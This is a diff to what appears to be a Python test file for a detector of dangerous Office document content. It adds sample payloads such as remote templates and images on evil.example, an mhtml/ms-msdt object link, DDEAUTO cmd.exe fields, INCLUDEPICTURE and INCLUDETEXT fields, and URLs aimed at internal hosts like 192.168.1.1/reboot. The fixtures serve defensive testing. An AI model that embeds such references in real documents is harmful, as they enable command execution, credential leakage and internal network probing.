@@ -57,7 +57,9 @@ MEMBERS = {
 OUTSIDE = {
     "template": ("attachedTemplate", "http://evil.example/t.dotm"), "template of a share": ("attachedTemplate", "\\\\evil.example\\t.dotm"),
     "template of a foreign host": ("attachedTemplate", "file://evil.example/t.dotm"), "object": ("oleObject", "http://evil.example/x"),
-    "object of msdt": ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"), "picture": ("image", "https://evil.example/pixel.png"),
+    "object of msdt": ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"), "picture inside the house": ("image", "http://192.168.1.1/reboot"), "picture of a port": ("image", "http://evil.example:8080/a.png"),
+    "picture of an account": ("image", "https://a@evil.example/a.png"), "picture of a name in the house": ("image", "http://printer/a.png"),
+    "picture of the intranet": ("image", "http://oa.corp/a.png"), "picture of a file": ("image", "file://evil.example/a.png"), "picture that runs": ("image", "mhtml:http://evil.example/x"),
     "picture of a share": ("image", "//evil.example/pixel.png"), "frame": ("frame", "http://evil.example/"), "part": ("subDocument", "http://evil.example/"),
     "chunk": ("aFChunk", "http://evil.example/"), "link that runs": ("hyperlink", "javascript:alert(1)"), "link to a tool": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
     "link to a share": ("hyperlink", "\\\\evil.example\\x"), "link to a search": ("hyperlink", "search-ms:query=x"), "link to a host": ("hyperlink", "file://evil.example/x"),
@@ -68,7 +70,9 @@ FORMULAS = (
 )  # fmt: skip
 FIELDS = (
     b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>", b"<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\x</w:instrText>",
-    b'<w:fldSimple w:instr="DDE cmd x"/>', b'<w:instrText>INCLUDEPICTURE "http://evil.example/p.png"</w:instrText>',
+    b'<w:fldSimple w:instr="DDE cmd x"/>', b'<w:instrText>INCLUDEPICTURE "http://10.0.0.1/p.png"</w:instrText>',
+    b'<w:instrText>INCLUDEPICTURE \\d "http://printer/p.png"</w:instrText>', b'<w:instrText>INCLUDEPICTURE "http://oa.local/p.png"</w:instrText>',
+    b'<w:instrText>INCLUDETEXT "http://evil.example/p.docx"</w:instrText>', b'<w:instrText>INCLUDEPICTURE "file://evil.example/p.png"</w:instrText>',
     b"<w:instrText>INCLUDETEXT &quot;\\\\\\\\evil.example\\\\x&quot;</w:instrText>",
 )  # fmt: skip
 
